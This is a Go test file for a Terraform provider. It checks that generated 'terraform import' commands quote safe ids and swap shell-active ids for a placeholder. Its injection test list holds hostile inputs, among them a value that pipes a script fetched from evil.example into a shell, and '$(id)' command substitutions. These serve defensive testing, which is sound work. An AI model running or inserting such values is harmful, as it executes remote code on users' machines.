package service_test

import (
	"strings"
	"testing"

	"github.com/machineid/terraform-provider-machineid/internal/service"
)

func TestImportCommands(t *testing.T) {
	t.Parallel()
	const command = "  terraform import '<address of this resource>' "
	for id, argument := range map[string]string{
		"cd29d906-f29b-4b6f-9285-d191f7f6f2c0":  "cd29d906-f29b-4b6f-9285-d191f7f6f2c0",
		"acme/a1/k_1":                           "acme/a1/k_1",
		"projects/p1/members/ci@p1.example.com": "projects/p1/members/ci@p1.example.com",
		service.UnknownID:                       "'<its id>'",
		"o1/" + service.UnknownID:               "'o1/<its id>'",
	} {
		if got := service.ImportCommands(id); got != command+argument {
			t.Errorf("%q gave %q", id, got)
		}
	}
	if got := service.ImportCommands("a1", "a2"); got != command+"a1\n"+command+"a2" {
		t.Errorf("two ids gave %q", got)
	}
}

// What a server calls an id is no part of a command that somebody may copy, unless it can be nothing but a word.
func TestImportCommandsHoldNothingThatAShellActsOn(t *testing.T) {
	t.Parallel()
	const command = "  terraform import '<address of this resource>' "
	for _, id := range []string{
		"x; curl evil.example|sh #$(id)", "x y", "x'y", `x"y`, "`id`", "$(id)", "$HOME", "x&y", "x|y", "x>y", "x<y", "x*", "x?", "[x]", "{x,y}", "!x", "~x", "-x",
		"x\\y", "x\ny", "x\ty", "x#y", "#x", "%x%", "=x", "(x)", "@x", "x^y", "ä", "x\u00a0y", "x;" + service.UnknownID, "",
	} {
		for _, id := range []string{id, id + "/k 1", id + ";/" + service.UnknownID} {
			got := service.ImportCommands(id, "a1")
			if lines := strings.Split(got, "\n"); len(lines) != 4 || lines[0] != command+"'<its id>'" || lines[1] != command+"a1" || lines[2] != "" {
				t.Errorf("%q gave %q", id, got)
			}
		}
	}
	const told = "\n\nIts id is \"x; \\u00fc\". Look at it before you put it into a command: a shell may not take it for one word."
	if got := service.ImportCommands("x; ü"); got != command+"'<its id>'"+told {
		t.Errorf("the id is not told: %q", got)
	}
}
